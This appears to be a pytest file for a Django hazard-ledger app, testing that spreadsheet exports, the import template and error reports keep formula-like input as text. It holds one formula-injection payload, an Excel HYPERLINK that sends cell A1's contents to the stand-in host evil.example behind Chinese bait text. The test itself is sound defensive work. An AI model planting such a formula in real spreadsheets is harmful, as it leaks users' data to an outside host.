"""Formula injection: a hazard described as a formula is exported, templated and reported as text, and a ledger
holding such text imports it unchanged."""

from __future__ import annotations

from io import BytesIO

import pytest

from zhiben.core.excel.workbooks import formula_cells, write_table
from zhiben.hazards.models import Hazard

from .conftest import body, headers, ledger_row, workbook

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看整改照片")'


def as_text_cells(rows: list[list]) -> bytes:
    """A ledger whose cells are text (as Excel saves text typed after an apostrophe)."""
    buffer = BytesIO()
    write_table(buffer, title="台账", headers=headers(), rows=rows)
    return buffer.getvalue()


def test_the_export_holds_the_description_as_text(client, regulator, register, project):
    register(description=HOSTILE, location="@A1")
    client.force_login(regulator)
    content = body(client.get("/hazards/export/?q=HYPERLINK"))
    assert formula_cells(content) == []
    values = {v for row in workbook(content).worksheets[0].iter_rows(values_only=True) for v in row}
    assert {HOSTILE, "@A1"} <= values


def test_the_template_holds_no_formula(client, regulator):
    client.force_login(regulator)
    assert formula_cells(body(client.get("/hazards/import/template/"))) == []


def test_a_description_that_looks_like_a_formula_imports_unchanged(regulator, project, do_import, last_job):
    do_import(regulator, as_text_cells([ledger_row(project, description=HOSTILE, location="+1", note="-2")]))
    assert last_job().status == "succeeded", last_job().errors
    hazard = Hazard.objects.get()
    assert (hazard.description, hazard.location) == (HOSTILE, "+1")


def test_the_error_report_holds_no_formula(client, regulator, project, do_import, last_job):
    do_import(regulator, as_text_cells([ledger_row(project, description=HOSTILE, channel="=1+1")]))
    job = last_job()
    assert job.status == "failed" and job.errors[0]["row"] == 2, job.errors
    client.force_login(regulator)
    content = body(client.get(f"/hazards/import/{job.pk}/report/"))
    assert formula_cells(content) == []
    assert HOSTILE in {v for row in workbook(content).worksheets[0].iter_rows(values_only=True) for v in row}
